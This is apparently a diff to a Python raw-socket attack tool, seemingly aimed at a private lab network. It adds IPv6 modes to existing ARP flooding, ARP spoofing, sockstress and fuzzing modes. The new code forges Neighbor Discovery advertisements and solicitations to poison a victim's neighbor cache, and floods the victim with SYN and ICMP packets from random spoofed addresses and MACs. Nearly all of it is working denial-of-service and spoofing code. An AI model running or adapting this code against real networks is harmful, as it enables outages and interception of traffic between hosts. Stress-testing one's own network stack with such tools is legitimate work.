@@ -3,6 +3,8 @@
 
 arp-requests   questions for the victim from addresses that nobody has, each with another sender, as fast as it goes
 arp-claims     forged announcements: of the victim's own address, and that the honest client's is elsewhere
+nd-claims      the same of IPv6: advertisements that override, and solicitations with the stranger's link address
+syn, ping      from random addresses of the link's prefix, IPv4 or IPv6, each with a link address of its own
 sockstress     connections from sixteen addresses that exist nowhere else, which ask for a long answer and then tell of
                a window of zero for ever
 fuzz           scapy's fuzz(): IP, TCP, UDP and ICMP with fields at random, of which half have the victim's ports
@@ -30,7 +32,7 @@ def send(frame):
 
 
 def address(text):
-    return socket.inet_aton(text)
+    return socket.inet_pton(socket.AF_INET6 if ":" in text else socket.AF_INET, text)
 
 
 def total(data):
@@ -89,6 +91,77 @@ def tcp_segment(victim, source, port, seq, ack, flags, window, data=b""):
 
 
 SYN, RST, PSH, ACK = 2, 4, 8, 16
+
+
+# --- IPv6, and both ---------------------------------------------------------------------------------------------------
+
+def sum_of(source, protocol, data):
+    """With the pseudo-header of the family that the source belongs to."""
+    return total(source + address(VICTIM) + struct.pack("!II", len(data), protocol) + data)
+
+
+def packet6(source, to, protocol, payload, hops=64):
+    return struct.pack("!IHBB", 0x60000000, len(payload), protocol, hops) + source + to + payload
+
+
+def victims_mac6():
+    asker, group = address("fd00:90::200"), address("ff02::1:ff00:2")
+    question = struct.pack("!BBHI", 135, 0, 0, 0) + address(VICTIM) + b"\1\1" + STRANGER_MAC
+    value = total(asker + group + struct.pack("!II", len(question), 58) + question)
+    packet = packet6(asker, group, 58, question[:2] + struct.pack("!H", value) + question[4:], 255)
+    for _ in range(50):
+        send(b"\x33\x33\xff\0\0\2" + STRANGER_MAC + b"\x86\xdd" + packet)
+        end = time.monotonic() + 0.2
+        while select.select([raw], [], [], max(0, end - time.monotonic()))[0]:
+            frame = raw.recv(2048)
+            if frame[12:14] == b"\x86\xdd" and frame[54:55] == b"\x88" and frame[62:78] == address(VICTIM):
+                return frame[6:12]
+    sys.exit("the victim does not answer")
+
+
+def nd_claims():
+    victim, own = victims_mac6(), address(OWN)
+    while True:
+        for kind, about, option in ((136, own, 2), (136, address(VICTIM), 2), (135, address(VICTIM), 1)):
+            flags = 0x60000000 if kind == 136 else 0
+            body = struct.pack("!BBHI", kind, 0, 0, flags) + about + bytes((option, 1)) + STRANGER_MAC
+            value = sum_of(own, 58, body)
+            packet = packet6(own, address(VICTIM), 58, body[:2] + struct.pack("!H", value) + body[4:], 255)
+            send(victim + STRANGER_MAC + b"\x86\xdd" + packet)
+        time.sleep(0.001)
+
+
+def near():
+    """An address of the link's prefix, and a link address."""
+    mac = b"\x02" + rng.randbytes(5)
+    if ":" in VICTIM:
+        return mac, address("fd00:90::")[:8] + rng.randbytes(8)
+    return mac, bytes([10, 90, 0, rng.randrange(3, 255)])
+
+
+def frame_of(victim, mac, source, protocol, payload):
+    if ":" in VICTIM:
+        return victim + mac + b"\x86\xdd" + packet6(source, address(VICTIM), protocol, payload)
+    return victim + mac + ip_packet(victim, source, protocol, payload)[12:]
+
+
+def syn():
+    victim = victims_mac6() if ":" in VICTIM else victims_mac()
+    while True:
+        mac, source = near()
+        port, seq = rng.randrange(1024, 65536), rng.getrandbits(32)
+        segment = struct.pack("!HHIIBBHHH", port, PORT, seq, 0, 0x50, SYN, 65535, 0, 0)
+        segment = segment[:16] + struct.pack("!H", sum_of(source, 6, segment)) + segment[18:]
+        send(frame_of(victim, mac, source, 6, segment))
+
+
+def ping():
+    victim = victims_mac6() if ":" in VICTIM else victims_mac()
+    while True:
+        mac, source = near()
+        data = struct.pack("!BBHHH", 128 if ":" in VICTIM else 8, 0, 0, 1, 1) + bytes(56)
+        value = sum_of(source, 58, data) if ":" in VICTIM else total(data)
+        send(frame_of(victim, mac, source, 58 if ":" in VICTIM else 1, data[:2] + struct.pack("!H", value) + data[4:]))
 
 
 def sockstress():
@@ -175,4 +248,4 @@ def mutate():
 
 
 {"arp-requests": arp_requests, "arp-claims": arp_claims, "sockstress": sockstress, "fuzz": fuzz,
- "mutate": mutate}[KIND]()
+ "mutate": mutate, "nd-claims": nd_claims, "syn": syn, "ping": ping}[KIND]()
